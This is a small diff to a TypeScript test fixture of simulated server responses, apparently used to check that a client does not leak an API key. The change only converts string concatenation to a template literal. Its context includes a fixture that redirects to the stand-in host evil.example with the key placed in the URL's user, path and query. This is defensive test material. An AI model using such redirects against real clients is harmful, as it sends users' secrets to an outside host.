@@ -134,11 +134,11 @@ export const acts: Readonly<Record<string, Act>> = {
     ),
   "answers in an odd encoding": (connection, key) =>
     connection.write(
-      head("200 OK", {
+      `${head("200 OK", {
         "content-type": "application/json",
         "content-encoding": `apikey${key}`,
         "content-length": "2",
-      }) + "{}",
+      })}{}`,
     ),
   "redirects with user and query": redirect(
     (key) => `https://${encodeURIComponent(key)}:x@evil.example/${key}?key=${encodeURIComponent(key)}`,
